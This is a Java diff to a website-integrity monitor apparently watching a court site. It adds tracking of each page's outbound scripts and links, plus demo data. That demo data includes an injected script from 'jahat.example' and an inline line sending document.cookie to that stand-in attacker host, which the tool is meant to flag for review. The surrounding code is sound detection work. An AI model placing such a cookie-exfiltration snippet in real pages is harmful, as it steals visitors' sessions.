@@ -3,6 +3,7 @@ package id.jagasitus.admin;
 import id.jagasitus.cleanup.Cleanups;
 import id.jagasitus.console.watch.CleanupConsole;
 import id.jagasitus.console.watch.WatchConsole;
+import id.jagasitus.event.Severity;
 import id.jagasitus.event.Signal;
 import id.jagasitus.expiry.CertificateFacts;
 import id.jagasitus.expiry.DomainFacts;
@@ -11,12 +12,14 @@ import id.jagasitus.expiry.NameWatch;
 import id.jagasitus.expiry.Names;
 import id.jagasitus.finding.Findings;
 import id.jagasitus.fresh.SectionRegister;
+import id.jagasitus.integrity.Outgoing;
 import id.jagasitus.integrity.Publishing;
 import id.jagasitus.journal.Journal;
 import id.jagasitus.patrol.OutsideLinks;
 import id.jagasitus.patrol.ServedPages;
 import id.jagasitus.patrol.ServedPatrol;
 import id.jagasitus.patrol.SitePatrol;
+import id.jagasitus.patrol.TieWatch;
 import id.jagasitus.service.Papers;
 import id.jagasitus.service.Service;
 import id.jagasitus.service.ServiceRegister;
@@ -27,6 +30,7 @@ import id.jagasitus.uptime.UptimeSettings;
 import id.jagasitus.watch.AddressGuard;
 import id.jagasitus.watch.Hosts;
 import id.jagasitus.watch.PageFetch;
+import id.jagasitus.watch.Tie;
 import java.io.IOException;
 import java.io.UncheckedIOException;
 import java.net.URI;
@@ -40,6 +44,7 @@ import java.time.LocalDate;
 import java.time.ZoneId;
 import java.util.ArrayList;
 import java.util.List;
+import java.util.Map;
 import java.util.Optional;
 import java.util.Random;
 import java.util.Set;
@@ -51,6 +56,7 @@ import java.util.Set;
 final class WatchRoom {
 
   private static final ZoneId ZONE = ZoneId.of("Asia/Jakarta");
+  private static final Hosts HOSTS = new Hosts("pn-contoh.go.id", Set.of());
 
   final Path site;
   final List<Signal> signals = new ArrayList<>();
@@ -61,6 +67,7 @@ final class WatchRoom {
   private final WatchConsole desk;
   private final Cleanups cleanups;
   private final SitePatrol patrol;
+  final Outgoing outgoing;
   private final Path papers;
   private final InstantSource clock;
 
@@ -86,10 +93,12 @@ final class WatchRoom {
             folder.resolve("bukti"),
             journal,
             sections,
-            () -> new Hosts("pn-contoh.go.id", Set.of()),
+            () -> HOSTS,
             clock,
             () -> ZONE);
     OutsideLinks links = OutsideLinks.open(folder.resolve("tautan"));
+    outgoing = Outgoing.open(folder.resolve("keluar"), journal);
+    outgoing.coveredBy(patrol::approvedTies);
     desk =
         new WatchConsole(
             new WatchConsole.Parts(
@@ -98,9 +107,10 @@ final class WatchRoom {
                 reachability,
                 services,
                 publishing,
+                outgoing,
                 signals::addAll,
                 at -> {},
-                served(clock),
+                served(clock, new TieWatch(outgoing, publishing, () -> HOSTS)),
                 expiry(folder, services, clock),
                 names(folder, clock),
                 links,
@@ -111,6 +121,7 @@ final class WatchRoom {
     patrol.look(false);
     change();
     found = patrol.look(false);
+    served();
     dead(links);
     visits(reachability, clock);
     services(services, LocalDate.ofInstant(clock.instant(), ZONE));
@@ -141,9 +152,37 @@ final class WatchRoom {
     return expiry;
   }
 
+  /** Two pages as they were approved, and a stranger's script that came without any file. */
+  private void served() throws IOException {
+    Instant before = clock.instant().minus(Duration.ofDays(3));
+    outgoing.begin("https://pn-contoh.go.id/");
+    Map<Tie, String> first =
+        Map.of(
+            new Tie(Tie.Kind.SCRIPT, "www.googletagmanager.com/gtag/js?id=G-1"),
+            "https://www.googletagmanager.com/gtag/js?id=G-1",
+            new Tie(Tie.Kind.LINK, "www.youtube.com"),
+            "https://www.youtube.com/@pncontoh");
+    outgoing.looked("/", first, WatchRoom::severity, before);
+    outgoing.looked("/berita/", Map.of(), WatchRoom::severity, before);
+    outgoing.approveAll("budi", "", before);
+    Map<Tie, String> came =
+        Map.of(
+            new Tie(Tie.Kind.SCRIPT, "jahat.example/x.js"),
+            "https://jahat.example/x.js?v=1",
+            new Tie(Tie.Kind.INLINE, "ab".repeat(16)),
+            "kirim('https://jahat.example/', document.cookie)",
+            new Tie(Tie.Kind.LINK, "koran.example"),
+            "https://koran.example/berita");
+    outgoing.looked("/", came, WatchRoom::severity, clock.instant());
+  }
+
+  private static Severity severity(Tie tie, boolean came) {
+    return came && tie.kind().grave() ? Severity.REVIEW : Severity.INFO;
+  }
+
   /** A link of the news that has been gone for two looks. */
   private void dead(OutsideLinks links) throws IOException {
-    links.learn(patrol.view().studies(), new Hosts("pn-contoh.go.id", Set.of()));
+    links.learn(patrol.view().studies(), HOSTS);
     try {
       links.look(address -> "HTTP 404", clock.instant().minus(Duration.ofDays(1)));
       links.look(address -> "HTTP 404", clock.instant());
@@ -197,13 +236,14 @@ final class WatchRoom {
   }
 
   /** Nothing is asked for over the network here. */
-  private static ServedPatrol served(InstantSource clock) {
+  private static ServedPatrol served(InstantSource clock, TieWatch ties) {
     return new ServedPatrol(
         Optional::empty,
-        () -> new Hosts("pn-contoh.go.id", Set.of()),
+        () -> HOSTS,
         () -> new PageFetch(new AddressGuard(List.of()), Duration.ofSeconds(1)),
         () -> {},
         new ServedPages(new Random(1)),
+        ties,
         clock,
         () -> ZONE);
   }
